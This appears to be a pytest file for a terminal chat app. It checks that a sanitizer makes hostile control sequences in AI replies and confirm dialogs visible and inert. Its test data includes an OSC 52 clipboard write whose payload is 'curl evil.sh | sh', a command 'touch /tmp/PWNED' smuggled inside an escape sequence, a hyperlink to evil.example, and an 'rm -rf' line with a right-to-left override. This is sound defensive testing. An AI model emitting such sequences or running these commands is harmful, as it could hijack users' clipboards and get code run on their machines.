"""Untrusted text never reaches the terminal with its control sequences: terminal_safe over hostile inputs, and
the chat widgets and the confirm dialog drawing a reply or a file that carries an OSC 52 clipboard write."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st
from moe_tui.app.sanitize import REMOVED, markup_safe, terminal_safe
from moe_tui.app.widgets.chat import MessageView, StreamingReply
from moe_tui.app.widgets.confirm import ConfirmScreen
from rich.markdown import Markdown
from rich.text import Text
from textual.app import App, ComposeResult
from textual.containers import VerticalScroll
from textual.markup import to_content
from textual.strip import Strip
from textual.widget import Widget
from textual.widgets import Label, Static

PAYLOAD = base64.b64encode(b"curl evil.sh | sh").decode()
OSC52 = f"\x1b]52;c;{PAYLOAD}\x07"  # sets the clipboard, BEL-terminated
OSC52_ST = f"\x1b]52;c;{PAYLOAD}\x1b\\"  # the same, ST-terminated

HOSTILE = [
    (f"copy {OSC52} this", "copy ␛ this"),
    (f"copy {OSC52_ST} this", "copy ␛ this"),
    (f"\x9d52;c;{PAYLOAD}\x9c", "␛"),  # 8-bit OSC and ST
    ("\x1b]2;pwned\x07title", "␛title"),
    ("\x1b]8;;https://evil.example/\x1b\\docs\x1b]8;;\x1b\\", "␛docs␛"),
    ("\x1b[2J\x1b[Hgone", "␛␛gone"),
    ("\x1b[1;31mred\x1b[0m", "␛red␛"),
    ("\x1b[?1049h", "␛"),
    ("\x9b2J", "␛"),  # 8-bit CSI
    ("\x1bP1$r\x1b\\", "␛"),  # DCS
    ("\x1b7\x1bc\x1b(B", "␛␛␛"),  # save cursor, reset, charset
    ("lone \x1b", "lone ␛"),
    ("\x1b]52;c;unterminated", "␛]52;c;unterminated"),  # kept visible: a terminal would wait for the rest
    ("\x1b]2;a\nb\x07", "␛]2;a\nb␇"),  # a string's payload never runs over a line
    ("over\rwrite", "over␍write"),
    ("dos\r\nline", "dos\nline"),
    ("ring\x07", "ring␇"),
    ("nul\x00", "nul␀"),
    ("del\x7f", "del␡"),
    ("back\x08space", "back␈space"),
    ("\x85next line \x9b", "␛Enext line ␛["),  # C1 shows as its 7-bit ESC pair
]

NORMAL = [
    "",
    "plain ASCII, punctuation: [/]x.py {a} `code` \\x1b (typed, not a control)",
    "tab\tand\nnewline",
    "漢字 かな 한국어 ünïcödé",
    "emoji 👍🏽 👨‍👩‍👧 and combining e\u0301 a\u0308",
    "non-breaking\u00a0space, ¡ and ÿ (U+00A0 on are text)",
    "control pictures ␛ ␇ stay as they are",
]


def active(text: str) -> list[str]:
    """Characters a terminal would act on: C0 but tab and newline, DEL, C1."""
    return [c for c in text if (ord(c) < 0x20 and c not in "\t\n") or 0x7F <= ord(c) <= 0x9F]


@pytest.mark.parametrize(("text", "shown"), HOSTILE)
def test_hostile_text_becomes_visible_and_inert(text, shown):
    safe = terminal_safe(text)
    assert safe == shown
    assert not active(safe)
    assert terminal_safe(safe) == safe


@pytest.mark.parametrize("text", NORMAL)
def test_normal_text_is_unchanged(text):
    assert terminal_safe(text) is text or terminal_safe(text) == text


@given(st.text(alphabet=st.characters(codec="utf-8")) | st.text(alphabet="\x1b[]\\;\x07\x9b\x9c\r\n\tPX^_2Jab☃"))
def test_any_text_comes_out_inert_and_a_second_pass_changes_nothing(text):
    safe = terminal_safe(text)
    assert not active(safe)
    assert terminal_safe(safe) == safe
    if not active(text):
        assert safe == text


@given(st.text(alphabet="[]/\\@=#$:abx \x1b"))
def test_markup_safe_shows_exactly_the_terminal_safe_text(text):
    assert to_content(markup_safe(text)).plain == terminal_safe(text)


def test_rich_passes_escape_sequences_through():
    """Why the widgets sanitize: Rich's Text and Markdown keep ESC in their segments (Text drops only BEL, BS,
    VT, FF and CR, which leaves an OSC 52 unterminated and still swallowing what follows)."""
    console = App().console
    for renderable in (Text(f"a {OSC52_ST} b"), Markdown(f"a {OSC52_ST} b\n\n```\n{OSC52}\n```")):
        lines = console.render_lines(renderable, console.options.update_width(60))
        assert any("\x1b]52" in segment.text for line in lines for segment in line)


REPLY = (
    f"Sure. {OSC52} Here it is:\n\n"
    f"Inline `{OSC52_ST}` code and \x1b]2;pwned\x07 a title.\n\n"
    f"```python\nprint('hi')  {OSC52}\n\x1b[2J\x9b31m\n```\n\n"
    "Last line \x1b[31mred\x1b[0m.\r\n"
)


def rows(widget: Widget) -> list[Strip]:
    return [widget.render_line(y) for y in range(widget.content_size.height)]


def assert_inert(strips: list[Strip]) -> str:
    """Every segment's text is free of controls; returns the rows' text."""
    for strip in strips:
        for segment in strip:
            assert not segment.control and not active(segment.text), repr(segment.text)
    return "\n".join(strip.text for strip in strips)


class Host(App):
    def compose(self) -> ComposeResult:
        with VerticalScroll():
            yield MessageView("assistant", REPLY, 1)
            yield StreamingReply()


async def test_a_message_draws_a_hostile_reply_inert_and_keeps_the_text_it_received():
    app = Host()
    async with app.run_test(size=(70, 50)) as pilot:
        await pilot.pause()
        view = app.query_one(MessageView)
        shown = assert_inert(rows(view))
        assert REMOVED in shown and "print('hi')" in shown and "Last line" in shown
        assert "pwned" not in shown  # prose: one ␛ per sequence
        assert f"␛]52;c;{PAYLOAD}␇" in shown and "␛[2J␛[31m" in shown  # a code block: all of it, as /save takes it
        assert view.text == REPLY  # sanitized when drawn, stored as received


async def test_a_streaming_reply_draws_hostile_fragments_inert():
    app = Host()
    async with app.run_test(size=(70, 50)) as pilot:
        reply = app.query_one(StreamingReply)
        await pilot.pause()
        for i in range(0, len(REPLY), 5):  # sequences split over fragments
            reply.append(REPLY[i : i + 5])
            assert_inert(rows(reply))
            await pilot.pause()
        shown = assert_inert(rows(reply))
        assert REMOVED in shown and PAYLOAD not in shown and "pwned" not in shown
        assert "␍" not in shown  # the CRLF was a line end
        assert reply.text == REPLY


class Dialog(App):
    def on_mount(self) -> None:
        self.push_screen(ConfirmScreen(f"Overwrite [/]x.py {OSC52}?", f"--- a\n+++ b\n+{OSC52_ST}\n-\x1b[2Jold\n"))


async def test_a_confirm_dialog_shows_brackets_and_escapes_as_text():
    app = Dialog()
    async with app.run_test(size=(80, 30)) as pilot:
        await pilot.pause()
        screen = app.screen
        assert isinstance(screen, ConfirmScreen)
        shown = ""
        for widget in screen.query("*"):
            if widget.size.area:
                shown += assert_inert(widget.render_lines(widget.size.region)) + "\n"
        # What a yes/no question is about is shown in full: a sequence's inside is not hidden behind one ␛
        # (code inside ESC ] ... BEL was written to the file, or run, after a Yes to a dialog that hid it).
        assert f"Overwrite [/]x.py ␛]52;c;{PAYLOAD}␇?" in str(screen.query_one(Label).render())
        assert f"+␛]52;c;{PAYLOAD}␛\\" in shown and "-␛[2Jold" in shown


class Hidden(App):
    def on_mount(self) -> None:
        command = 'echo checking \x1b]0; touch /tmp/PWNED; echo \x07'
        self.push_screen(ConfirmScreen(f"Run $ {command}?", '+NAME = "app\x1b]0;"; import os; X = "\x07"\n'))


async def test_a_confirm_dialog_hides_nothing_inside_an_escape_sequence():
    async with Hidden().run_test(size=(100, 30)) as pilot:
        await pilot.pause()
        screen = pilot.app.screen
        question = str(screen.query_one(Label).render())
        shown = next(w for w in screen.query_one(VerticalScroll).query(Static) if not isinstance(w, Label))
        diff = assert_inert(shown.render_lines(shown.size.region))
        assert "touch /tmp/PWNED" in question and "import os" in diff


def test_bidirectional_overrides_are_named_not_obeyed():
    """U+202E (right-to-left override) went through: a terminal that reorders text would show a command or a
    file name otherwise than it is."""
    from moe_tui.app.sanitize import revealed

    text = "rm -rf ./\u202etxt.py"
    assert terminal_safe(text) == revealed(text) == "rm -rf ./‹U+202E›txt.py"
    assert terminal_safe("\u2066isolated\u2069") == "‹U+2066›isolated‹U+2069›"


def test_a_replys_code_blocks_show_whole_escape_sequences_in_the_chat():
    """The chat showed `BANNER = "␛\\ ␛RED␛ ␛\\"` for a block that /save would write with a title change and a
    clipboard write in it: a code block shows every character of a sequence, the prose one ␛ each."""
    from moe_tui.app.sanitize import markdown_safe

    reply = f"Here \x1b[31mred\x1b[0m.\n\n```python\nBANNER = \"{OSC52}\"\n```\n"
    shown = markdown_safe(reply)
    assert shown.startswith("Here ␛red␛.") and f'BANNER = "␛]52;c;{PAYLOAD}␇"' in shown
    assert markdown_safe(shown) == shown  # idempotent: nothing left to act on
